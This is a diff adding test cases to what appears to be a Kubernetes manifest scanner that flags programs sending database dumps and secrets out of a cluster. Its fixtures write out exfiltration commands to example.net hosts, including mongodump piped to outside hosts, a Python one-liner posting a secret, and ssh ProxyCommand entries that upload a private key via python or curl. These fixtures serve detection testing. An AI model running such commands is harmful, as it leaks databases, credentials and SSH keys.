@@ -141,3 +141,37 @@ describe('command effects', () => {
     expect(kinds(found)).toEqual([]);
   });
 });
+
+describe('the fourteenth red team: store data and keys sent by programs the send list did not know', () => {
+  const admin = { env: [{ name: 'P', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } }] };
+  const sends = (...resources: Manifest[]): string[] => effectsOf(...resources).flatMap((e) => (e.effect === 'upload' ? [`${e.program} ${e.payload} ${e.destination} ${e.internal}`] : []));
+  it.each([
+    ['mongodump into mongorestore --uri outside', 'mongodump --archive -p "$P" | mongorestore --archive --uri mongodb://copy.example.net:27017', ['mongorestore store-dump copy.example.net false']],
+    ['mongodump into mongorestore --host of a replica set outside', 'mongodump --archive | mongorestore --archive --host rs1/db1.example.net:27017,db2.example.net:27017', ['mongorestore store-dump db1.example.net false']],
+    ['mongodump into rclone rcat, inline sftp remote', 'mongodump --archive --gzip | rclone rcat ":sftp,host=files.example.net,user=u:st2.gz"', ['rclone store-dump files.example.net false']],
+    ['mongodump into rclone rcat, named remote', 'mongodump --archive | rclone rcat offsite:st2/d.archive', ['rclone store-dump offsite false']],
+    ['mongodump into mongorestore in the cluster', 'mongodump --archive | mongorestore --archive --uri mongodb://mongodb-restore.st2-prod.svc:27017', ['mongorestore store-dump mongodb-restore.st2-prod.svc true']],
+    ['mongorestore from a PVC into the local mongod', 'mongorestore --archive=/backup/d.archive', []],
+    ['mongodump to a PVC', 'mongodump --archive=/backup/d.archive --gzip', []],
+  ] as const)('%s', (_name, script, expected) => {
+    expect(sends(job({ ...sh(script), ...admin }))).toEqual(expected);
+  });
+
+  it('takes the URL a Python body is sent to, not the first URL the code reads (reading the local API stays inside)', () => {
+    const code = "import urllib.request,os\nr=urllib.request.Request('http://localhost:15672/api/definitions',headers={'X':os.environ['P']})\nurllib.request.urlopen('https://collect.example.net/in', data=urllib.request.urlopen(r).read())";
+    expect(sends(job({ command: ['python3', '-c', code], ...admin }))).toEqual(['python3 secret collect.example.net false']);
+    expect(sends(job({ command: ['python3', '-c', "import urllib.request,os\nprint(urllib.request.urlopen(urllib.request.Request('http://localhost:15672/api/overview',headers={'X':os.environ['P']})).read())"], ...admin }))).toEqual(['python3 secret localhost true']);
+  });
+
+  it("runs a mounted ssh config's ProxyCommand as a script of the container (ssh, and st2's Paramiko runner with use_ssh_config)", () => {
+    const config = (command: string): Manifest => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'ssh', namespace: 'st2-prod' }, data: { config: `Host *\n  ProxyCommand ${command}\n` } });
+    const runner = job(
+      { command: ['sleep', 'infinity'], volumeMounts: [{ name: 'ssh', mountPath: '/etc/ssh-extra' }, { name: 'key', mountPath: '/home/stanley/.ssh/stanley_rsa', subPath: 'private_key' }] },
+      { volumes: [{ name: 'ssh', configMap: { name: 'ssh' } }, { name: 'key', secret: { secretName: 'st2-ssh-key' } }] },
+    );
+    const posts = "python3 -c \"import urllib.request as u;u.urlopen('https://collect.example.net/k',open('/home/stanley/.ssh/stanley_rsa','rb').read())\" %h %p";
+    expect(sends(config(posts), runner)).toEqual(['python3 secret collect.example.net false']);
+    expect(sends(config('curl -s -T /home/stanley/.ssh/stanley_rsa https://collect.example.net/k'), runner)).toEqual(['curl secret collect.example.net false']);
+    expect(sends(config('ssh -W %h:%p -i /home/stanley/.ssh/stanley_rsa stanley@bastion.example.net'), runner)).toEqual([]);
+  });
+});
